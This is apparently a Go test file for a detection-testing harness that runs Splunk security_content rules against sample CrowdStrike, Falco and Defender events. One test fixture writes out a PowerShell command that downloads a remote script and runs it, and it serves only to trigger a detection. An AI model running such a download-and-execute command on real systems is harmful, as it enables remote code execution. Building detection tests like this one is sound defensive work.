package ingest_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"testing/fstest"

	"github.com/dactest/dactest/harness/content"
	"github.com/dactest/dactest/harness/internal/testenv"
	"github.com/dactest/dactest/harness/runner"
	"gopkg.in/yaml.v3"
)

// End to end: security_content's tstats Endpoint.Processes detections on
// CrowdStrike ProcessRollup2 events built from the data source's
// example_log, through the CrowdStrike FDR add-on definitions, the CIM
// data model and the runner's unit-test verdicts.

const (
	downloadString = "detections/endpoint/any_powershell_downloadstring.yml"
	certutilDecode = "detections/endpoint/certutil_with_decode_argument.yml"
	// The example event's aid, and the host name a site's aidmaster
	// export gives it.
	exampleAID = "168a90e125d443beb2a4e2914985084d"
)

func TestCrowdStrikeProcessRollup2Detections(t *testing.T) {
	sc := testenv.SharedDir(t, "corpus", "security_content")
	dir := t.TempDir()
	benign := writeEvent(t, dir, "benign.json", nil)
	download := writeEvent(t, dir, "download.json", map[string]any{
		"CommandLine": `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -c IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')`,
	})
	cases := []struct {
		id, detection, data string
		fires, site         bool
		status              runner.Status
		message             string
	}{
		{"downloadstring-fires", downloadString, download, true, true, runner.Pass, ""},
		{"downloadstring-benign", downloadString, benign, false, true, runner.Pass, ""},
		{"certutil-not-on-powershell", certutilDecode, download, false, true, runner.Pass, ""},
		// Without the site's aidmaster table the add-on gives no dest; the
		// CIM's Endpoint.Processes calculation fills Processes.dest with
		// "unknown" (Splunk_SA_CIM 6.1.0), so the risk object is "unknown"
		// and the test passes, as in Splunk.
		{"downloadstring-no-site-data", downloadString, download, true, false, runner.Pass, ""},
	}
	for _, c := range cases {
		t.Run(c.id, func(t *testing.T) {
			m := writeManifest(t, dir, c.id, sc, c.detection, c.data, c.fires)
			res := runCase(t, m, c.site)
			if res.Status != c.status || !strings.Contains(res.Message, c.message) {
				t.Fatalf("%s: %s %q, want %s %q", c.id, res.Status, res.Message, c.status, c.message)
			}
			if c.fires && !c.site && (res.ResultCount != 1 || res.Rows[0].Get("dest").String() != "unknown") {
				t.Errorf("no site data: %d rows, dest %q, want unknown", res.ResultCount, res.Rows[0].Get("dest"))
			}
			if c.fires && c.site && (res.ResultCount != 1 || res.Rows[0].Get("dest").String() != "WIN-HOST-7") {
				t.Errorf("%d rows, dest %q", res.ResultCount, res.Rows[0].Get("dest"))
			}
		})
	}
}

// Every production detection that lists CrowdStrike ProcessRollup2 as a
// data source compiles, but for the few that use what dactest cannot run.
func TestCrowdStrikeDetectionsCompile(t *testing.T) {
	tree, compiler := corpusCompiler(t)
	n := 0
	for _, d := range tree.Detections {
		if d.Status != "production" || !hasDataSource(d, "CrowdStrike ProcessRollup2") {
			continue
		}
		n++
		want := runner.Pass
		if knownUnsupported[filepath.Base(d.File)] {
			want = runner.Unsupported
		}
		if st := compiler.Get(tree, d).Status(); st != want {
			t.Errorf("%s: %s, want %s", d.File, st, want)
		}
	}
	if n < 100 {
		t.Fatalf("only %d CrowdStrike ProcessRollup2 detections", n)
	}
}

// What dactest cannot run, whatever the data: an MLTK model (apply), and
// the asset_lookup_by_str lookup (Enterprise Security's) and
// remote_access_software_exceptions KV store collection (no data).
var knownUnsupported = map[string]bool{
	"potentially_malicious_code_on_commandline.yml":    true,
	"detect_remote_access_software_usage_fileinfo.yml": true,
	"detect_remote_access_software_usage_process.yml":  true,
}

func hasDataSource(d *content.Detection, name string) bool {
	for _, ds := range d.DataSource {
		if ds == name {
			return true
		}
	}
	return false
}

func runCase(t *testing.T, manifest string, site bool) runner.TestResult {
	t.Helper()
	m, err := content.LoadManifest(manifest)
	if err != nil {
		t.Fatal(err)
	}
	opts, err := caseOptions(site)
	if err != nil {
		t.Fatal(err)
	}
	if site {
		export := "aid,ComputerName,Version\n" + exampleAID + ",WIN-HOST-7,Windows 10\n"
		_, err := opts.Addons.LoadSiteTables(fstest.MapFS{
			"crowdstrike_ta_host_resolution_lookup.csv":          {Data: []byte(export)},
			"crowdstrike_ta_combined_host_resolution_lookup.csv": {Data: []byte(export)},
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	loader := caseLoader
	if site {
		// the loader caches the datasets' events, fields included: a case
		// with site tables must not share them
		loader = runner.NewContentLoader()
	}
	rep := runner.Run(context.Background(), runner.PlanManifest(m, loader), opts)
	if len(rep.Results) != 1 {
		t.Fatalf("%d results", len(rep.Results))
	}
	return rep.Results[0]
}

// assertFirstRow checks the first result row's fields (multivalues joined
// with |); want nil checks nothing.
func assertFirstRow(t *testing.T, res runner.TestResult, want map[string]string, why string) {
	t.Helper()
	if want == nil {
		return
	}
	if res.ResultCount < 1 {
		t.Fatalf("no result rows %s", why)
	}
	for k, v := range want {
		if got := strings.Join(res.Rows[0].Get(k), "|"); got != v {
			t.Errorf("%s = %q, want %q %s", k, got, v, why)
		}
	}
}

// caseLoader and sharedOpts let the many one-case manifests share one
// load of the content tree and one compile of each detection (each case
// loaded security_content anew: ~0.5 s a case).
var (
	caseLoader     = runner.NewContentLoader()
	sharedOptsOnce sync.Once
	sharedOpts     runner.Options
	sharedOptsErr  error
)

// caseOptions are the default options, shared unless the case loads site
// tables into its add-ons.
func caseOptions(site bool) (runner.Options, error) {
	if site {
		return runner.DefaultOptions()
	}
	sharedOptsOnce.Do(func() { sharedOpts, sharedOptsErr = runner.DefaultOptions() })
	return sharedOpts, sharedOptsErr
}

// writeEvent writes the ProcessRollup2 example_log, with changes, as a
// one-line JSON dataset.
func writeEvent(t *testing.T, dir, name string, change map[string]any) string {
	t.Helper()
	example := dataSourceExample(t, "crowdstrike_processrollup2.yml")
	var ev map[string]any
	if err := json.Unmarshal([]byte(example), &ev); err != nil {
		t.Fatal(err)
	}
	for k, v := range change {
		ev[k] = v
	}
	line, err := json.Marshal(ev)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, name)
	if err := os.WriteFile(path, append(line, '\n'), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

func writeManifest(t *testing.T, dir, id, sc, detection, data string, fires bool) string {
	t.Helper()
	return writeManifestAs(t, dir, id, sc, detection, data, "crowdstrike", "crowdstrike:events:sensor", fires)
}

func writeManifestAs(t *testing.T, dir, id, sc, detection, data, source, sourcetype string, fires bool) string {
	t.Helper()
	return writeManifestHost(t, dir, id, sc, detection, map[string]any{"path": data, "source": source, "sourcetype": sourcetype}, fires)
}

// writeManifestHost writes a one-case manifest whose dataset entry is
// given whole (path, source, sourcetype and, where the case needs it, host).
func writeManifestHost(t *testing.T, dir, id, sc, detection string, data map[string]any, fires bool) string {
	t.Helper()
	m := map[string]any{"cases": []any{map[string]any{
		"id": id, "content": sc, "detection": detection,
		"data":   []any{data},
		"expect": map[string]any{"fires": fires},
	}}}
	out, err := yaml.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, id+".yml")
	if err := os.WriteFile(path, out, 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// Kubernetes Falco: the example alert fires the shell-spawned detection
// through Splunk's default key=value extraction; the ProcessRollup2
// example, under the Falco sourcetype, does not.
func TestFalcoShellSpawnedDetection(t *testing.T) {
	sc := testenv.SharedDir(t, "corpus", "security_content")
	dir := t.TempDir()
	example := dataSourceExample(t, "kubernetes_falco.yml")
	alert := filepath.Join(dir, "falco.log")
	if err := os.WriteFile(alert, []byte(example+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	other := writeEvent(t, dir, "pr2.json", nil)
	for _, c := range []struct {
		data  string
		fires bool
	}{{alert, true}, {other, false}} {
		m := writeManifestAs(t, dir, "falco-"+filepath.Base(c.data), sc, "detections/cloud/kubernetes_falco_shell_spawned.yml", c.data, "kubernetes", "kube:container:falco", c.fires)
		if res := runCase(t, m, false); res.Status != runner.Pass {
			t.Errorf("%s: %s %q", c.data, res.Status, res.Message)
		}
	}
}

// Microsoft Defender Advanced Hunting alerts through the Alerts data
// model: a high-severity alert on a device fires Detect Critical Alerts
// from Security Tools; a low one does not; the example record, evidence
// about a cloud resource with no device, leaves the dest risk object null.
func TestDefenderCriticalAlertsDetection(t *testing.T) {
	sc := testenv.SharedDir(t, "corpus", "security_content")
	dir := t.TempDir()
	example := dataSourceExample(t, "windows_defender_alerts.yml")
	write := func(name, device, severity string) string {
		var ev map[string]any
		if err := json.Unmarshal([]byte(strings.ReplaceAll(example, "\n", " ")), &ev); err != nil {
			t.Fatal(err)
		}
		props := ev["properties"].(map[string]any)
		if device != "" {
			props["DeviceName"] = device
		}
		props["Severity"] = severity
		line, _ := json.Marshal(ev)
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, append(line, '\n'), 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	const detection = "detections/endpoint/detect_critical_alerts_from_security_tools.yml"
	for _, c := range []struct {
		name, data string
		fires      bool
		status     runner.Status
		message    string
	}{
		{"high on a device", write("high.json", "ws-01", "High"), true, runner.Pass, ""},
		{"low on a device", write("low.json", "ws-01", "Low"), false, runner.Pass, ""},
		// No device: the CIM's Alerts calculation fills dest with "unknown".
		{"example without a device", write("example.json", "", "High"), true, runner.Pass, ""},
	} {
		m := writeManifestAs(t, dir, strings.ReplaceAll(c.name, " ", "-"), sc, detection, c.data,
			"eventhub://windowsdefenderlogs", "mscs:azure:eventhub:defender:advancedhunting", c.fires)
		if res := runCase(t, m, false); res.Status != c.status || !strings.Contains(res.Message, c.message) {
			t.Errorf("%s: %s %q, want %s %q", c.name, res.Status, res.Message, c.status, c.message)
		}
	}
}
